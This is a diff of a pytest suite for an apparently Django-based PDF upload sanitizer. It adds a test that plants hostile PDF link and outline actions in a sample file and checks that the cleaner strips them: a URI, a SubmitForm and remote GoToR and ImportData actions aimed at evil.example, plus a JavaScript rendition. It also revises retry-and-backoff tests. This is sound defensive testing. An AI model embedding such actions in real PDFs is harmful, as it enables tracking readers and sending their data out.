@@ -85,6 +85,37 @@ def test_a_pdf_loses_what_acts_and_keeps_what_is_written(store: Store) -> None:
         assert "/Next" not in jump
 
 
+@pytest.mark.parametrize(
+    "action",
+    [
+        pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/?who=reviewer"),
+        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/"),
+        pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="//evil.example/share/x.pdf", D=pikepdf.Array([0])),
+        pikepdf.Dictionary(S=pikepdf.Name.GoToE, D=pikepdf.Array([0])),
+        pikepdf.Dictionary(S=pikepdf.Name.ImportData, F="//evil.example/share/x.fdf"),
+        pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS="app.alert('boo')"),
+    ],
+    ids=lambda action: str(action.S),
+)
+def test_a_link_leads_nowhere_outside_the_document(store: Store, action: pikepdf.Dictionary) -> None:
+    with pikepdf.open(io.BytesIO(samples.pdf())) as document:
+        link = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=document.make_indirect(action)
+        )
+        document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])
+        document.Root.Outlines = pikepdf.Dictionary(First=pikepdf.Dictionary(Title="Annex", A=action))
+        written = io.BytesIO()
+        document.save(written)
+    with pikepdf.open(io.BytesIO(written.getvalue())) as before:
+        assert str(action.S) in _everything(before)
+    file = checked(store(samples.upload(written.getvalue())))
+    with pikepdf.open(io.BytesIO(storing.get(file.clean_key))) as after:
+        left = _everything(after)
+        assert "evil" not in left
+        assert str(action.S) not in left
+        assert "Annex" in left
+
+
 def test_a_font_that_is_called_like_an_action_stays(store: Store) -> None:
     with pikepdf.open(io.BytesIO(samples.pdf())) as document:
         font = document.make_indirect(
@@ -158,14 +189,35 @@ def test_the_task_checks_whatever_waits(store: Store) -> None:
     assert set(StoredFile.objects.values_list("state", flat=True)) == {FileState.CLEAN}
 
 
-def test_storage_that_is_away_is_tried_three_times_and_then_given_up(store: Store, shift_clock: Shift) -> None:
+def test_storage_that_is_away_is_tried_for_a_day_and_then_given_up(store: Store, shift_clock: Shift) -> None:
     file = store(samples.upload(samples.pdf()))
     storing.drop(file.original_key)
-    for minutes in (0, 6, 12, 18):
+    tried = []
+    for minutes in (*range(0, 150, 2), *range(150, 27 * 60, 30)):
         shift_clock(timedelta(minutes=minutes))
         check_pending()
-    file.refresh_from_db()
+        file.refresh_from_db()
+        if file.state != FileState.PENDING:
+            break
+        tried.append(file.attempts)
+    pauses = [2 * tried.count(attempt) for attempt in range(1, 5)]
+    assert pauses == [6, 10, 20, 40]  # five minutes and then double, in steps of two
+    assert 23 * 60 < minutes <= 26 * 60
     assert (file.state, file.problem) == (FileState.ERROR, words.GIVEN_UP)
+
+
+def test_storage_that_comes_back_within_the_day_loses_nothing(store: Store, shift_clock: Shift) -> None:
+    content = samples.pdf()
+    file = store(samples.upload(content))
+    storing.drop(file.original_key)
+    for hours in range(5):
+        shift_clock(timedelta(hours=hours))
+        check_pending()
+    default_storage.save(file.original_key, io.BytesIO(content))
+    shift_clock(timedelta(hours=6))
+    check_pending()
+    file.refresh_from_db()
+    assert file.state == FileState.CLEAN
 
 
 def test_a_result_that_comes_too_late_is_thrown_away(store: Store, shift_clock: Shift, own_storage: Path) -> None:
